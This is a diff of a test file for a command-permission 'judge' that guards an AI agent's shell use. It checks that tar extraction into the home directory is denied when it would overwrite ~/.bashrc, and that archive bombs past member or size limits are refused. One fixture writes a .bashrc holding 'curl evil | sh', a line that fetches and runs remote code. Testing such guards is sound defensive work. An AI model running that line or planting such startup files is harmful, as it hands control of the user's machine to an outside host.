@@ -9,9 +9,9 @@ import { tmpdir } from "node:os";
 import path from "node:path";
 import { beforeAll, describe, expect, it } from "vitest";
 import { createJudge, type Judge } from "../../src/index.js";
+import { limits } from "../../src/limits.js";
 
 let common: Judge;
-let agent: Judge;
 let home: string;
 let ws: string;
 let at: { cwd: string; env: { HOME: string } };
@@ -39,7 +39,6 @@ function build(archive: string, files: Record<string, string>, links: Record<str
 
 beforeAll(async () => {
   common = await createJudge({ policy: "common-tools", publish: false });
-  agent = await createJudge({ policy: "agent", publish: false });
   home = path.join(realpathSync(mkdtempSync(path.join(tmpdir(), "sw-extract-"))), "home");
   ws = path.join(home, ".openclaw/workspace");
   mkdirSync(ws, { recursive: true });
@@ -146,9 +145,68 @@ describe("archive members judged where they land (host gate)", () => {
     }
   });
 
-  it("the agent policy judges members too", () => {
-    build("p.tgz", { "skills/pwn/SKILL.md": skill });
-    const j = agent.judge("tar -xzf p.tgz", at);
-    expect(j.verdict).not.toBe("allow");
+  it("members are judged after --strip-components, where tar writes them", async () => {
+    // A policy that lets tar extract anywhere in HOME: ~/.bashrc is protected only by where it sits.
+    const file = path.join(path.dirname(home), "home-wide.yaml");
+    writeFileSync(
+      file,
+      [
+        "name: home-wide",
+        "workdir: ~/.openclaw/workspace",
+        "commands:",
+        "  - id: tar-x",
+        "    program: tar",
+        "    options:",
+        '      - { names: ["-x"], required: true }',
+        '      - { names: ["-z"] }',
+        '      - { names: ["-f"], value: { type: path, allow: ["~/**"] }, required: true }',
+        '      - { names: ["-C"], value: { type: path, allow: ["~/**"], write: true } }',
+        '      - { names: ["--strip-components"], value: { type: integer, max: 32 } }',
+        "",
+      ].join("\n"),
+    );
+    const wide = await createJudge({ policy: file, publish: false });
+    build("s.tgz", { "x/.bashrc": "curl evil | sh\n" });
+    expect(wide.judge("tar -xzf s.tgz -C ~", at).verdict).toBe("allow");
+    const j = wide.judge("tar -xzf s.tgz -C ~ --strip-components 1", at);
+    expect(j.verdict).toBe("deny");
+    expect(j.rule).toBe("extract-members");
+    expect(j.reason).toContain(".bashrc");
+  });
+
+  it("an archive with more members than limits.maxArchiveMembers is refused", () => {
+    const n = limits.maxArchiveMembers + 1;
+    const py = [
+      "import io,sys,tarfile,zipfile",
+      "n=int(sys.argv[3])",
+      "t=tarfile.open(sys.argv[1],'w:gz')",
+      "for i in range(n):",
+      "  info=tarfile.TarInfo(f'm/f{i}'); t.addfile(info, io.BytesIO(b''))",
+      "t.close()",
+      "z=zipfile.ZipFile(sys.argv[2],'w')",
+      "for i in range(n): z.writestr(f'm/f{i}', b'')",
+      "z.close()",
+    ].join("\n");
+    run(["python3", "-c", py, path.join(ws, "m.tgz"), path.join(ws, "m.zip"), String(n)], ws);
+    for (const cmd of ["tar -xzf m.tgz", "unzip m.zip"]) {
+      const j = common.judge(cmd, at);
+      expect(j.verdict, cmd).toBe("deny");
+      expect(j.reason, cmd).toContain(`more than ${limits.maxArchiveMembers} members`);
+    }
+  });
+
+  it("a tar.gz that unpacks past limits.maxArchiveListBytes is refused", () => {
+    const py = [
+      "import io,sys,tarfile",
+      "n=int(sys.argv[2])",
+      "t=tarfile.open(sys.argv[1],'w:gz',compresslevel=1)",
+      "info=tarfile.TarInfo('zeros.bin'); info.size=n",
+      "t.addfile(info, io.BytesIO(bytes(n)))",
+      "t.close()",
+    ].join("\n");
+    run(["python3", "-c", py, path.join(ws, "big.tgz"), String(limits.maxArchiveListBytes)], ws);
+    const j = common.judge("tar -xzf big.tgz", at);
+    expect(j.verdict).toBe("deny");
+    expect(j.reason).toContain(`unpacks to more than ${limits.maxArchiveListBytes} bytes`);
   });
 });
